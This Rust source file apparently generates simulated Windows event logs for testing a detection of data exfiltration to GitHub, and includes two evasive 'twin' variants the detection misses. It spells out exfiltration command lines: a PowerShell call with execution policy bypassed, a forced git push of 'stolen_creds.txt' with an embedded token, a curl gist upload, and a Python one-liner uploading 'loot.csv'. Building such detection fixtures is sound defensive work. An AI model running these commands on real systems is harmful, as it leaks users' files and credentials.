//! The four tests of the detection on one workstation, as they really look, with two twins that the search does not
//! see: `git push origin`, and a Python script file. With PowerShell's and Security's logs of the same hour.

mod powershell;

use super::event::Event;
use super::git::{self, Remote, Way};
use super::host::{Host, Process};
use super::names::{GITHUB, GITHUB_API, OTHER_TOKEN, Shown, TOKEN};
use super::{Fixture, Log, intact};
use crate::support::clock::Ticks;

pub const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CURL: &str = r"C:\Windows\System32\curl.exe";
const PYTHON: &str = r"C:\Users\m.ebert\AppData\Local\Programs\Python\Python312\python.exe";
const FOLDER: &str = r"C:\Users\m.ebert\AppData\Local\Temp\df00tech-exfil";
/// The repository that the tests write to.
const REPOSITORY: &str = "https://github.com/df00tech-lab/df00tech-exfil.git";

/// The three logs.
pub fn fixtures() -> Vec<Fixture> {
    let (mut host, explorer) = workstation("WS-4711.corp.example");
    let service = service_host(&mut host);

    let mut scripts = powershell::ScriptBlocks::default();
    host.wait(4_000);
    contents_api_from_powershell(&mut host, &explorer, &mut scripts, true);
    telemetry(&mut host, &service);
    host.wait(95_000);
    push_from_the_shell(&mut host, &explorer);
    host.wait(141_000);
    telemetry(&mut host, &service);
    gist_with_curl(&mut host, &explorer, &mut scripts);
    host.wait(77_000);
    python_and_urllib(&mut host, &explorer);
    host.wait(203_000);
    telemetry(&mut host, &service);
    twin_push_to_origin(&mut host, &explorer, "push --force origin main");
    host.wait(64_000);
    twin_script_file(&mut host, &explorer);
    host.wait(30_000);
    telemetry(&mut host, &service);

    vec![
        intact("four-tests.evtx", Log::sorted(48_211, host.sysmon)),
        intact("four-tests-powershell.evtx", Log::sorted(3_907, scripts.events)),
        intact("four-tests-security.evtx", Log::sorted(1_204_338, host.security)),
    ]
}

/// A workstation on the morning of the tests, and its desktop.
fn workstation(name: &str) -> (Host, Process) {
    let mut host = Host::new(name, Ticks::at((2026, 3, 11), "09:12:04.1870000"));
    host.act_as(r"CORP\m.ebert");
    host.go_to(r"C:\Users\m.ebert\");
    let explorer = host.running(r"C:\Windows\explorer.exe", r"C:\WINDOWS\Explorer.EXE");
    (host, explorer)
}

/// The events of the four tests on a host, of all channels: what a collector gathers of them.
pub fn collected(name: &str) -> Vec<Event> {
    let (mut host, explorer) = workstation(name);
    let mut scripts = powershell::ScriptBlocks::default();
    host.wait(4_000);
    contents_api_from_powershell(&mut host, &explorer, &mut scripts, false);
    host.wait(95_000);
    push_from_the_shell(&mut host, &explorer);
    host.wait(141_000);
    gist_with_curl(&mut host, &explorer, &mut scripts);
    host.wait(77_000);
    python_and_urllib(&mut host, &explorer);
    host.sysmon.into_iter().chain(scripts.events).chain(host.security).collect()
}

/// The events of the two twins on a host, of all channels.
pub fn collected_twins(name: &str) -> Vec<Event> {
    let (mut host, explorer) = workstation(name);
    host.wait(4_000);
    twin_push_to_origin(&mut host, &explorer, "push origin main");
    host.wait(64_000);
    twin_script_file(&mut host, &explorer);
    host.sysmon.into_iter().chain(host.security).collect()
}

/// Test 1: PUT to the Contents API with Invoke-RestMethod.
fn contents_api_from_powershell(
    host: &mut Host,
    explorer: &Process,
    scripts: &mut powershell::ScriptBlocks,
    with_a_long_block: bool,
) {
    let body = powershell::contents_request(TOKEN);
    let command_line = format!("\"{POWERSHELL}\" -NoProfile -ExecutionPolicy Bypass -Command \"{body}\"");
    let shell = host.start(explorer, POWERSHELL, &command_line);
    let console = console(host, &shell);
    host.wait(310);
    scripts.add(host, &shell, &body);
    host.ask(&shell, &GITHUB_API);
    host.wait(40);
    host.connect(&shell, &GITHUB_API, Shown::Asked);
    host.wait(900);
    if with_a_long_block {
        scripts.add(host, &shell, &powershell::long_request(TOKEN));
    }
    host.wait(1_900);
    host.exit(&shell);
    host.exit(&console);
}

/// Test 2: a file of credentials, committed and pushed with a URL and `--force`.
fn push_from_the_shell(host: &mut Host, explorer: &Process) {
    let shell = host.start(explorer, r"C:\Windows\System32\cmd.exe", r#""C:\WINDOWS\system32\cmd.exe" "#);
    let console = console(host, &shell);
    host.go_to(&format!(r"{FOLDER}\"));
    host.wait(6_000);
    host.create_file(&shell, &format!(r"{FOLDER}\stolen_creds.txt"));
    host.wait(4_000);
    git::local(host, &shell, "init");
    host.wait(3_000);
    git::local(host, &shell, "add .");
    host.wait(5_000);
    let commit = git::begin(host, &shell, r#"commit -m "backup""#);
    let upkeep = host.start(&commit.program, git::PROGRAM, "git maintenance run --auto --no-quiet");
    host.exit(&upkeep);
    git::end(host, &commit);
    host.wait(8_000);

    let url = REPOSITORY.replace("https://", &format!("https://{TOKEN}@"));
    let push = git::begin(host, &shell, &format!("push --force {url} HEAD:main"));
    let remote = Remote { name: &url, url: &url, server: &GITHUB, shown: Shown::Reverse };
    git::transfer(host, &push.program, Way::Push, &remote);
    // What the test's page claims and git does not do: git.exe itself opens the connection.
    host.connect(&push.program, &GITHUB, Shown::Asked);
    host.wait(400);
    git::end(host, &push);
    host.wait(2_000);
    host.exit(&shell);
    host.exit(&console);
}

/// Test 3: a gist, by curl under PowerShell.
fn gist_with_curl(host: &mut Host, explorer: &Process, scripts: &mut powershell::ScriptBlocks) {
    host.go_to(r"C:\Users\m.ebert\");
    let shell = host.start(explorer, POWERSHELL, &format!("\"{POWERSHELL}\" "));
    let console = console(host, &shell);
    host.wait(9_000);
    let arguments = format!(
        "-s -X POST -H \"Authorization: token {TOKEN}\" -H \"Accept: application/vnd.github+json\" -d @gist.json \
         https://api.github.com/gists"
    );
    scripts.add(host, &shell, &format!("curl.exe {arguments}"));
    let curl = host.start(&shell, CURL, &format!("\"{CURL}\" {arguments}"));
    host.ask(&curl, &GITHUB_API);
    host.wait(30);
    host.connect(&curl, &GITHUB_API, Shown::Reverse);
    host.wait(700);
    host.exit(&curl);
    host.wait(3_000);
    host.exit(&shell);
    host.exit(&console);
}

/// Test 4: PUT with Python's urllib, all of it on the command line.
fn python_and_urllib(host: &mut Host, explorer: &Process) {
    let shell = host.start(explorer, r"C:\Windows\System32\cmd.exe", r#""C:\WINDOWS\system32\cmd.exe" "#);
    let console = console(host, &shell);
    host.wait(7_000);
    let program = format!(
        "import base64,json,urllib.request; d=json.dumps({{'message':'m','content':base64.b64encode(open('loot.csv',\
         'rb').read()).decode()}}).encode(); urllib.request.urlopen(urllib.request.Request('https://api.github.com/repos/df00tech-lab/\
         df00tech-exfil/contents/loot.csv',data=d,method='PUT',headers={{'Authorization':'token {OTHER_TOKEN}'}}))"
    );
    let python = host.start(&shell, PYTHON, &format!("python  -c \"{program}\""));
    host.wait(260);
    host.ask(&python, &GITHUB_API);
    host.wait(30);
    host.connect(&python, &GITHUB_API, Shown::Dash);
    host.wait(800);
    host.exit(&python);
    host.exit(&shell);
    host.exit(&console);
}

/// Test 2 again, with a remote by name: no host on any command line that has `push`.
fn twin_push_to_origin(host: &mut Host, explorer: &Process, arguments: &str) {
    let shell = host.start(explorer, r"C:\Windows\System32\cmd.exe", r#""C:\WINDOWS\system32\cmd.exe" "#);
    let console = console(host, &shell);
    host.go_to(&format!(r"{FOLDER}\"));
    host.wait(5_000);
    git::local(host, &shell, &format!("remote add origin {REPOSITORY}"));
    host.wait(6_000);
    let push = git::begin(host, &shell, arguments);
    let remote = Remote { name: "origin", url: REPOSITORY, server: &GITHUB, shown: Shown::Dash };
    git::transfer(host, &push.program, Way::Push, &remote);
    git::end(host, &push);
    host.exit(&shell);
    host.exit(&console);
}

/// Test 4 again, from a file: the command line names no host. Only its connection shows it, and only by its query.
fn twin_script_file(host: &mut Host, explorer: &Process) {
    let shell = host.start(explorer, r"C:\Windows\System32\cmd.exe", r#""C:\WINDOWS\system32\cmd.exe" "#);
    let console = console(host, &shell);
    let script = format!(r"{FOLDER}\sync.py");
    host.create_file(&shell, &script);
    host.wait(2_000);
    let python = host.start(&shell, PYTHON, &format!("python  {script}"));
    host.wait(240);
    host.ask(&python, &GITHUB_API);
    host.connect(&python, &GITHUB_API, Shown::Dash);
    host.wait(800);
    host.exit(&python);
    host.exit(&shell);
    host.exit(&console);
}

fn console(host: &mut Host, shell: &Process) -> Process {
    host.start(shell, r"C:\Windows\System32\conhost.exe", r"\??\C:\WINDOWS\system32\conhost.exe 0x4")
}

fn service_host(host: &mut Host) -> Process {
    let user = std::mem::replace(&mut host.user, r"NT AUTHORITY\NETWORK SERVICE".to_owned());
    let command_line = r"C:\WINDOWS\System32\svchost.exe -k NetworkService -p";
    let service = host.running(r"C:\Windows\System32\svchost.exe", command_line);
    host.user = user;
    service
}

/// Telemetry that every host sends home now and then.
fn telemetry(host: &mut Host, service: &Process) {
    let name = "v10.events.data.microsoft.com";
    host.dns(
        service,
        name,
        "type:  5 win-global-asimov-leafs-events-data.trafficmanager.net;::ffff:20.42.65.90;",
    );
    host.connect_to(service, "20.42.65.90", "-", 443);
}
